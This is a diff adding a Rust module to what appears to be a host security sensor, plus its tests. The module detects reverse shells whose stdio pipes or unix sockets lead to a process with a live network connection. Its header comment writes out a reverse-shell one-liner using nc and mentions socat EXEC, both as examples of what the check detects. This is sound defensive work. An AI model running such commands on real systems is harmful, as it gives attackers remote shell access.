@@ -1,0 +1,325 @@
+//! The stdio-peer check: a shell or interpreter whose stdio is a pipe or a unix socket may be
+//! talking to the network through another process (`cat /tmp/f | sh -i 2>&1 | nc HOST PORT >
+//! /tmp/f`; socat's `EXEC:` child on a socket pair). For such an exec the process holding the
+//! other end is looked for, and if it holds a connected internet socket the exec event names it
+//! (`pipe_peer`, `pipe_peer_socket`).
+//!
+//! Pipes: every process under /proc holding one of the shell's stdio pipe inodes, other than
+//! the shell and its parent (a parent reading its child's output through a pipe is popen(),
+//! the everyday case). Unix sockets: the parent, when it does not hold the same socket itself
+//! (so it made a new socket pair for the child rather than passing on its own stdio).
+//!
+//! The peer may not exist yet when the shell execs (nc is forked after sh, and connects after
+//! its own exec), so the event is held back and the check repeated at the delays in `TRIES`,
+//! then sent either way. Bounds: at most `PENDING_MAX` events held, at most `SCANS_PER_SECOND`
+//! /proc scans a second (over budget, a try is skipped), each scan stopping after
+//! `SCAN_BUDGET`.
+
+use super::stdio::{fill_socket, is_inet_peer, is_shell_or_interpreter};
+use crate::sys::procfs::Proc;
+use cordon_proto::stdio::Kind;
+use cordon_proto::{ProcessEvent, ProcessRef, Stdio, process_event};
+use std::collections::VecDeque;
+use std::path::PathBuf;
+use std::time::{Duration, Instant};
+
+/// When the check runs, after the exec was seen.
+const TRIES: [Duration; 3] = [
+    Duration::ZERO,
+    Duration::from_millis(150),
+    Duration::from_millis(600),
+];
+const PENDING_MAX: usize = 64;
+const SCANS_PER_SECOND: u32 = 8;
+const SCAN_BUDGET: Duration = Duration::from_millis(25);
+
+struct Pending {
+    event: ProcessEvent,
+    seen: Instant,
+    /// Tries done.
+    tries: usize,
+}
+
+pub struct Watch {
+    proc: Proc,
+    pending: VecDeque<Pending>,
+    /// Start of the current second and the scans made in it.
+    window: (Instant, u32),
+}
+
+impl Watch {
+    pub fn new(proc: Proc) -> Self {
+        Self {
+            proc,
+            pending: VecDeque::new(),
+            window: (Instant::now(), 0),
+        }
+    }
+
+    /// Takes an event: gives it back at once unless it is a candidate still unresolved.
+    pub fn offer(&mut self, event: ProcessEvent, now: Instant) -> Option<ProcessEvent> {
+        if !candidate(&event) || self.pending.len() >= PENDING_MAX {
+            return Some(event);
+        }
+        let mut p = Pending {
+            event,
+            seen: now,
+            tries: 0,
+        };
+        if self.try_one(&mut p, now) {
+            return Some(p.event);
+        }
+        self.pending.push_back(p);
+        None
+    }
+
+    /// When the next held event is due for a try.
+    pub fn next_due(&self) -> Option<Instant> {
+        self.pending.iter().map(|p| p.seen + TRIES[p.tries]).min()
+    }
+
+    /// Runs the tries that are due; returns the events that are done with.
+    pub fn due(&mut self, now: Instant) -> Vec<ProcessEvent> {
+        let mut done = Vec::new();
+        let mut keep = VecDeque::with_capacity(self.pending.len());
+        while let Some(mut p) = self.pending.pop_front() {
+            if now < p.seen + TRIES[p.tries] || !self.try_one(&mut p, now) {
+                keep.push_back(p);
+            } else {
+                done.push(p.event);
+            }
+        }
+        self.pending = keep;
+        done
+    }
+
+    /// Every held event, unchecked further (the sensor is stopping).
+    pub fn drain(&mut self) -> Vec<ProcessEvent> {
+        self.pending.drain(..).map(|p| p.event).collect()
+    }
+
+    /// One try; true when the event is done with (found, or out of tries).
+    fn try_one(&mut self, p: &mut Pending, now: Instant) -> bool {
+        p.tries += 1;
+        if self.allow_scan(now)
+            && let Some((peer, socket)) = self.find(&p.event)
+        {
+            p.event.pipe_peer = Some(peer);
+            p.event.pipe_peer_socket = Some(socket);
+            return true;
+        }
+        p.tries >= TRIES.len()
+    }
+
+    fn allow_scan(&mut self, now: Instant) -> bool {
+        if now.duration_since(self.window.0) >= Duration::from_secs(1) {
+            self.window = (now, 0);
+        }
+        self.window.1 += 1;
+        self.window.1 <= SCANS_PER_SECOND
+    }
+
+    fn find(&self, e: &ProcessEvent) -> Option<(ProcessRef, Stdio)> {
+        let streams = [&e.stdin, &e.stdout, &e.stderr];
+        let of_kind = |k: Kind| -> Vec<u64> {
+            streams
+                .iter()
+                .filter_map(|s| s.as_ref().filter(|s| s.kind == k as i32).map(|s| s.inode))
+                .collect()
+        };
+        let unix: Vec<u64> = of_kind(Kind::Socket);
+        if !unix.is_empty() && e.ppid > 1 {
+            let links = self.links(e.ppid);
+            let inherited = links.iter().any(|l| unix.iter().any(|u| *l == socket_link(*u)));
+            if !inherited && let Some(found) = self.inet_peer(e.ppid, &links) {
+                return Some(found);
+            }
+        }
+        let pipes: Vec<String> = of_kind(Kind::Pipe)
+            .into_iter()
+            .map(|i| format!("pipe:[{i}]"))
+            .collect();
+        if pipes.is_empty() {
+            return None;
+        }
+        let deadline = Instant::now() + SCAN_BUDGET;
+        for pid in self.proc.pids() {
+            if Instant::now() > deadline {
+                break;
+            }
+            if pid == e.pid || pid == e.ppid {
+                continue;
+            }
+            let links = self.links(pid);
+            if links.iter().any(|l| pipes.contains(l))
+                && let Some(found) = self.inet_peer(pid, &links)
+            {
+                return Some(found);
+            }
+        }
+        None
+    }
+
+    /// The fd links of `pid` ("pipe:[12]", "socket:[34]", "/dev/null").
+    fn links(&self, pid: u32) -> Vec<String> {
+        let dir: PathBuf = self.proc.root().join(pid.to_string()).join("fd");
+        let Ok(fds) = std::fs::read_dir(dir) else {
+            return Vec::new();
+        };
+        fds.flatten()
+            .filter_map(|fd| std::fs::read_link(fd.path()).ok())
+            .map(|l| l.to_string_lossy().into_owned())
+            .collect()
+    }
+
+    /// The first connected internet socket among `links` of `pid`, with the process.
+    fn inet_peer(&self, pid: u32, links: &[String]) -> Option<(ProcessRef, Stdio)> {
+        let socket = links.iter().find_map(|l| {
+            let inode = l.strip_prefix("socket:[")?.strip_suffix(']')?.parse().ok()?;
+            let mut s = Stdio {
+                kind: Kind::Socket as i32,
+                inode,
+                ..Default::default()
+            };
+            fill_socket(&self.proc, pid, &mut s);
+            is_inet_peer(&s).then_some(s)
+        })?;
+        let stat = self.proc.stat(pid);
+        let (argv, _) = self.proc.cmdline(pid, 4096).unwrap_or_default();
+        let process = ProcessRef {
+            pid,
+            start_ticks: stat.map(|s| s.start_ticks).unwrap_or_default(),
+            exe: self.proc.link(pid, "exe").unwrap_or_default(),
+            argv: cordon_proto::secrets::redact_argv(argv),
+            uid: self.proc.ids(pid).map(|i| i.0).unwrap_or_default(),
+            ..Default::default()
+        };
+        Some((process, socket))
+    }
+}
+
+fn socket_link(inode: u64) -> String {
+    format!("socket:[{inode}]")
+}
+
+/// A shell or interpreter exec with a pipe or unix socket for stdio and no internet socket
+/// seen already.
+fn candidate(e: &ProcessEvent) -> bool {
+    if e.kind != process_event::Kind::Exec as i32 || !is_shell_or_interpreter(&e.exe) {
+        return false;
+    }
+    let streams = [&e.stdin, &e.stdout, &e.stderr];
+    let direct = streams.iter().flat_map(|s| s.as_ref()).any(is_inet_peer)
+        || e.parent_socket.is_some();
+    !direct
+        && streams.iter().flat_map(|s| s.as_ref()).any(|s| {
+            s.kind == Kind::Pipe as i32 || (s.kind == Kind::Socket as i32 && s.family == "unix")
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::process::{Command, Stdio as Io};
+
+    /// A shell writing into a pipe read by a process holding a connected socket is linked to
+    /// it; one whose pipe leads nowhere near a socket is sent after its tries, unlinked.
+    #[test]
+    fn a_pipe_to_a_process_with_a_socket_is_found() {
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        let addr = listener.local_addr().unwrap();
+        // The reader: python holding a connected socket, reading the pipe as its stdin.
+        let Ok(mut reader) = Command::new("python3")
+            .args([
+                "-c",
+                &format!(
+                    "import socket,sys;s=socket.create_connection(('127.0.0.1',{}));print('ready',flush=True);sys.stdin.read()",
+                    addr.port()
+                ),
+            ])
+            .stdin(Io::piped())
+            .stdout(Io::piped())
+            .spawn()
+        else {
+            eprintln!("SKIP: python3 missing");
+            return;
+        };
+        let mut line = String::new();
+        std::io::BufRead::read_line(
+            &mut std::io::BufReader::new(reader.stdout.take().unwrap()),
+            &mut line,
+        )
+        .unwrap();
+        // Not accepted: this process holds only the listening socket, which has no peer.
+        let stdin = reader.stdin.take().unwrap();
+        use std::os::fd::AsRawFd;
+        use std::os::unix::fs::MetadataExt;
+        let ino = std::fs::metadata(format!("/proc/self/fd/{}", stdin.as_raw_fd()))
+            .unwrap()
+            .ino();
+        let pipe = Stdio {
+            kind: Kind::Pipe as i32,
+            inode: ino,
+            ..Default::default()
+        };
+        let event = ProcessEvent {
+            kind: process_event::Kind::Exec as i32,
+            // A shell whose parent is this test process, which holds the pipe's other end too
+            // (and is skipped as the parent).
+            pid: 1,
+            ppid: std::process::id(),
+            exe: "/bin/sh".into(),
+            stdout: Some(pipe.clone()),
+            ..Default::default()
+        };
+        let mut watch = Watch::new(Proc::default());
+        let found = watch.offer(event.clone(), Instant::now()).expect("found at once");
+        assert_eq!(found.pipe_peer.unwrap().pid, reader.id());
+        assert_eq!(found.pipe_peer_socket.unwrap().peer, addr.to_string());
+
+        let lone = ProcessEvent {
+            stdout: Some(Stdio {
+                inode: u64::MAX,
+                ..pipe
+            }),
+            ..event
+        };
+        let now = Instant::now();
+        assert!(watch.offer(lone, now).is_none(), "held for another try");
+        let mut out = Vec::new();
+        for t in TRIES {
+            out.extend(watch.due(now + t));
+        }
+        assert_eq!(out.len(), 1);
+        assert!(out[0].pipe_peer.is_none());
+        assert!(watch.next_due().is_none());
+        drop(stdin);
+        reader.wait().unwrap();
+    }
+
+    #[test]
+    fn only_shells_with_pipes_or_unix_sockets_wait() {
+        let pipe = Some(Stdio {
+            kind: Kind::Pipe as i32,
+            ..Default::default()
+        });
+        let shell = ProcessEvent {
+            kind: process_event::Kind::Exec as i32,
+            exe: "/usr/bin/bash".into(),
+            stdin: pipe.clone(),
+            ..Default::default()
+        };
+        assert!(candidate(&shell));
+        assert!(!candidate(&ProcessEvent {
+            exe: "/usr/bin/cat".into(),
+            ..shell.clone()
+        }));
+        assert!(!candidate(&ProcessEvent {
+            stdin: Some(Stdio {
+                kind: Kind::Tty as i32,
+                ..Default::default()
+            }),
+            ..shell.clone()
+        }));
+    }
+}
